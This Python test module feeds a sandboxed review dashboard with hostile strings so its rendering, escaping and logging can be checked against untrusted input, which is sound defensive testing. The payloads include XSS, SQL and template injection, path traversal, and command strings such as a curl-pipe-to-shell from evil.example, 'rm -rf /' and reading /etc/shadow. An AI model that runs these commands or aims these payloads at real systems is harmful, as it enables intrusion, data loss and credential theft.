"""Hostile strings for the sandbox's hostile session.

Upstream text (prompts, diffs, command output, candidate names) is written by candidates and
their AI tools, so the dashboard must treat all of it as untrusted. The sandbox fills one whole
session with these strings so that rendering, escaping, markdown sanitising, logging and storage
are exercised against real attack shapes instead of polite fixtures. Every entry is a plain
``str``; some contain control characters (NUL, ESC, CR/LF, U+2028) on purpose.

:func:`hostilize` turns a generated event's data into hostile data of the same shape.
"""

from __future__ import annotations

import difflib
import random
from typing import Any

from sandbox.diffs import Diff, count_changes

_XSS: list[str] = [
    "<script>alert('xss-script')</script>",
    '"><script>alert("xss-attr-break")</script>',
    "'><img src=x onerror=alert('xss-img')>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert('xss-svg')>",
    "<svg><script>alert('xss-svg-script')</script></svg>",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "<a href=\"javascript:alert('xss-href')\">click me</a>",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert('mixed-case-scheme')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YS11cmknKTwvc2NyaXB0Pg==",
    "<body onload=alert('xss-body')>",
    "<details open ontoggle=alert('xss-details')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "</textarea><script>alert('textarea-break')</script>",
    "</title><script>alert('title-break')</script>",
    "</script><script>alert('json-in-script-break')</script>",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert('css'))\">styled</div>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=q></form>',
    "<input autofocus onfocus=alert('autofocus')>",
    '" onmouseover="alert(\'attr-injection\')" x="',
    "' onmouseover='alert(1)' x='",
    "`-alert('template-literal')-`",
    '<div hx-get="/admin/delete-everything" hx-trigger="load">htmx</div>',
    '<button hx-post="/logout" hx-trigger="load">htmx-post</button>',
    '<a href="#" _="on load call alert(\'hyperscript\')">hs</a>',
    "<!-- unterminated comment",
    "<![CDATA[<script>alert('cdata')</script>]]>",
    "&lt;script&gt;alert('pre-escaped')&lt;/script&gt;",
    "&#x3C;script&#x3E;alert('entity-encoded')&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert('url-encoded')%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert('js-escaped')\\u003c/script\\u003e",
]

_TEMPLATES_AND_INJECTION: list[str] = [
    "{{ 7*7 }} {{ request.META }} {{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "'; DROP TABLE reviewer_session; --",
    "1' OR '1'='1",
    '" OR ""="',
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "$(curl -s https://evil.example/x.sh | sh)",
    "`rm -rf /`",
    "; cat /etc/shadow",
    "%s%s%s%s%n",
    "{0.__class__.__mro__}",
]

_MARKDOWN: list[str] = [
    "[click for prize](javascript:alert('md-link'))",
    "[data link](data:text/html,<script>alert('md-data')</script>)",
    "![img](x \"onerror=alert('md-img-title')\")",
    "![x](https://evil.example/pixel.gif?c=cookie)",
    "<https://evil.example/autolink>",
    "[ref]: javascript:alert('md-ref-def')\n\n[see this][ref]",
    "```html\n<script>alert('inside-fence')</script>\n```",
    "```\n</code></pre><script>alert('fence-break')</script>\n```",
    "# Heading <img src=x onerror=alert('md-heading')>",
    "> quote <script>alert('md-quote')</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert('md-table')> | x |",
    "*emphasis* __bold__ <b onclick=alert('md-inline-html')>bold</b>",
]

_UNICODE_AND_CONTROL: list[str] = [
    "admin\u202egnp.exe",
    "zero\u200bwidth\u200cjoin\u200dhere\ufeff",
    "Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358\u0359g\u035a\u035b\u035co\u0300\u0301\u0302",
    "\U0001f4a3\U0001f525 emoji \U0001f9d1\u200d\U0001f4bb and flags \U0001f1fa\U0001f1e6",
    "line\u2028separator\u2029paragraph",
    "nul\x00byte",
    "bell\x07 backspace\x08 formfeed\x0c vertical\x0btab",
    "\x1b[31mred ANSI\x1b[0m \x1b]0;window-title\x07",
    "crlf\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
    "Ｓｃｒｉｐｔ fullwidth ＜ｓｃｒｉｐｔ＞",
    "Pаypal homoglyph (Cyrillic а)",
    "\ufffd replacement char and \\ud800 an escaped lone surrogate",
    "مرحبا RTL mixed with LTR text",
    "\u0000\u0001\u0002\u001f control run",
]

_SIZE: list[str] = [
    "A" * 5000,
    "x" * 300 + "<script>alert('after-long-run')</script>",
    "a-very-long-word-without-any-break-" * 60,
    "",
    " ",
    "\t\n\t\n",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    '{"__proto__": {"polluted": true}}',
]

PAYLOADS: list[str] = _XSS + _TEMPLATES_AND_INJECTION + _MARKDOWN + _UNICODE_AND_CONTROL + _SIZE
"""Every hostile string, in a stable order (the sandbox picks from it deterministically)."""


def _hostile_text(rng: random.Random, key: str) -> str:
    """Several payloads arranged as markdown for long free-text fields."""
    picks = rng.sample(PAYLOADS, 4)
    if key in ("lastAssistantMessage", "text", "prompt", "summary", "context", "rationale"):
        return (
            f"## {picks[0]}\n\n- {picks[1]}\n- [{picks[2]}]({picks[3]})\n\n"
            f"```html\n{picks[1]}\n```\n\n> {picks[2]}\n"
        )
    return "\n".join(picks)


def hostilize(value: Any, rng: random.Random, key: str = "") -> Any:
    """Replace every string inside ``value`` with hostile text, keeping the shape."""
    if isinstance(value, dict):
        out = {k: hostilize(v, rng, k) for k, v in value.items()}
        if "diff" in value:
            diff = payload_diff(rng.choice(PAYLOADS).split("\n")[0][:80] or "x", rng)
            out.update(diff=diff.text, linesAdded=diff.added, linesRemoved=diff.removed)
        if "content" in value and isinstance(out.get("content"), str):
            out["linesAdded"] = out["content"].count("\n") + 1
            out["sizeBytes"] = len(out["content"].encode())
        return out
    if isinstance(value, list):
        return [hostilize(v, rng, key) for v in value]
    if isinstance(value, str):
        long_fields = (
            "lastAssistantMessage",
            "text",
            "prompt",
            "content",
            "stdout",
            "stderr",
            "summary",
            "context",
            "tradeoffs",
            "rationale",
        )
        return _hostile_text(rng, key) if key in long_fields else rng.choice(PAYLOADS)
    return value


def payload_diff(path: str, rng: random.Random) -> Diff:
    """A real diff whose every content line is a hostile string (for the hostile session)."""
    before = [line for p in rng.sample(PAYLOADS, 4) for line in p.split("\n")]
    after = list(before)
    for _ in range(3):
        after.insert(rng.randrange(len(after) + 1), rng.choice(PAYLOADS).split("\n")[0])
    if after:
        after[rng.randrange(len(after))] = rng.choice(PAYLOADS).split("\n")[0]
    body = list(difflib.unified_diff(before, after, f"a/{path}", f"b/{path}", lineterm=""))
    added, removed = count_changes(body[2:])
    return Diff(path, "\n".join(body) + "\n", added, removed)
